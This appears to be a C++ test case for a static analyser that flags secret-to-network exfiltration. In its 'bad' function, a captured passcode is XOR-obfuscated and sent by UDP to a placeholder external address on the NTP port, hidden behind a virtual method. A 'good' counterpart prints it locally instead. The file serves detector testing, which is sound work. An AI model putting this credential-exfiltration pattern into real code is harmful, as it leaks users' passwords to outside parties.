/* C++: the sink hides behind a virtual method, and the secret is folded with a key on the way. */
#include <arpa/inet.h>
#include <cstddef>
#include <cstring>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

struct Channel {
    virtual ~Channel() = default;
    virtual void put(const unsigned char *data, std::size_t size) = 0;
};

namespace {

struct Datagram final : Channel {
    void put(const unsigned char *data, std::size_t size) override {
        sockaddr_in peer{};
        peer.sin_family = AF_INET;
        peer.sin_port = htons(123);
        peer.sin_addr.s_addr = inet_addr("198.51.100.123");
        int out = socket(AF_INET, SOCK_DGRAM, 0);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        sendto(out, data, size, 0, reinterpret_cast<sockaddr *>(&peer), sizeof peer);
        close(out);
    }
};

struct Terminal final : Channel {
    void put(const unsigned char *data, std::size_t size) override {
        if (write(STDOUT_FILENO, data, size) < 0)
            return;
    }
};

void fold(unsigned char *data, std::size_t size) {
    static const unsigned char key[4] = {0x13, 0x9c, 0x47, 0xe0};
    for (std::size_t i = 0; i < size; i++)
        data[i] ^= key[i % sizeof key];
}

} // namespace

void bad_unlock(Channel *chosen) {
    Datagram datagram;
    Channel *channel = chosen ? chosen : &datagram;
    unsigned char data[48] = {};
    std::memcpy(data, getpass("Passcode: "), sizeof data);
    fold(data, sizeof data);
    channel->put(data, sizeof data);
}

/* The same folding, shown on the user's own terminal: no network anywhere. */
void good_unlock() {
    Terminal terminal;
    unsigned char data[48] = {};
    std::memcpy(data, getpass("Passcode: "), sizeof data);
    fold(data, sizeof data);
    terminal.put(data, sizeof data);
}
